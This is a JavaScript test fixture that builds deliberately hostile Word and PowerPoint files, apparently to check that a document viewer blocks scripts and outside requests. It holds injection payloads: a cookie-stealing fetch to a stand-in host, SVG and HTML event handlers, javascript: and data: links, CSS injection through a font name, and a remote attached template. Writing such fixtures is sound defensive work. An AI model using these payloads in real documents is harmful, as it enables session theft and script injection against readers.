// Documents as an attacker makes them. Every address leads to `outside`: nothing of it may be asked.
import { docx, fa, link, paragraph, part, picture, run } from './word.mjs';
import { box, image, line, pptx, SLIDE } from './powerpoint.mjs';

const outside = 'http://hostile.invalid';
const steal = `fetch('${outside}/script?'+document.cookie);parent.document.title='stolen';window.stolen=1`;
const drawn = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${steal}"><script>${steal}</script><image href="${outside}/svg.png" width="9" height="9"/><rect width="40" height="40" fill="#c00"/></svg>`;
const page = `<html><head><link rel="stylesheet" href="${outside}/style.css"></head><body onload="${steal}"><script>${steal}</script><img src="${outside}/page.png" onerror="${steal}"><h1>altchunk</h1></body></html>`;

export const hostileDocx = () =>
  docx(
    [
      fa('این سند دشمن است'),
      paragraph(run('after this')),
      paragraph(link('rLink', 'script link')),
      paragraph(link('rData', 'data link')),
      paragraph(link('rGood', 'good link')),
      paragraph(run(`&lt;img src=x onerror=${steal.replaceAll("'", '&apos;')}&gt;`)),
      paragraph(
        run('styled', {
          font: `x;} body { background: url(${outside}/font.png) } @import '${outside}/import.css'; y {`,
        }),
      ),
      picture('rPicture', { outside: true }),
      picture('rDrawn'),
      `<w:p><w:r><w:pict><v:shape style="width:40pt;height:40pt;background:url(${outside}/vml.png)" onclick="${steal}">` +
        `<v:imagedata r:id="rDrawn" o:href="${outside}/imagedata.png"/></v:shape></w:pict></w:r></w:p>`,
      '<w:altChunk r:id="rChunk"/>',
      paragraph(run('the end')),
    ].join(''),
    {
      links: {
        rLink: [
          'hyperlink',
          'javascript:window.stolen=1;parent.location=&quot;http://hostile.invalid/link&quot;',
          true,
        ],
        rData: ['hyperlink', 'data:text/html,&lt;script&gt;parent.stolen=1&lt;/script&gt;', true],
        rGood: ['hyperlink', 'https://example.com/good', true],
        rPicture: ['image', `${outside}/picture.png`, true],
        rDrawn: ['image', 'media/drawn.svg'],
        rChunk: ['aFChunk', 'chunk.html'],
        rTemplate: ['attachedTemplate', `${outside}/template.dotm`, true],
        rSettings: ['settings', 'settings.xml'],
      },
      parts: {
        'word/media/drawn.svg': drawn,
        'word/chunk.html': page,
        'word/settings.xml': part('settings', '<w:attachedTemplate r:id="rTemplate"/>'),
        'word/_rels/settings.xml.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rTemplate" ' +
          'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ' +
          `Target="${outside}/template.dotm" TargetMode="External"/></Relationships>`,
      },
    },
  );

export const hostilePptx = () =>
  pptx(
    [
      box([400_000, 300_000, 8_000_000, 900_000], [line('این ارائه دشمن است', { rtl: true })]) +
        box([400_000, 1_300_000, 8_000_000, 700_000], [line('script link', { link: 'rLink' })]) +
        box([400_000, 2_100_000, 8_000_000, 700_000], [line('good link', { link: 'rGood' })]) +
        image([400_000, 3_000_000, 900_000, 900_000], 'rPicture', true) +
        image([1_500_000, 3_000_000, 900_000, 900_000], 'rDrawn') +
        box([400_000, 4_100_000, 8_000_000, 700_000], [line(`&lt;img src=x onerror=&quot;window.stolen=1&quot;&gt;`)]),
      box([400_000, 300_000, SLIDE[0] - 800_000, 900_000], [line('the end')]),
    ],
    {
      links: {
        rLink: ['hyperlink', 'javascript:window.stolen=1', true],
        rGood: ['hyperlink', 'https://example.com/good', true],
        rPicture: ['image', `${outside}/picture.png`, true],
        rDrawn: ['image', '../media/drawn.svg'],
      },
      parts: { 'ppt/media/drawn.svg': drawn },
    },
  );
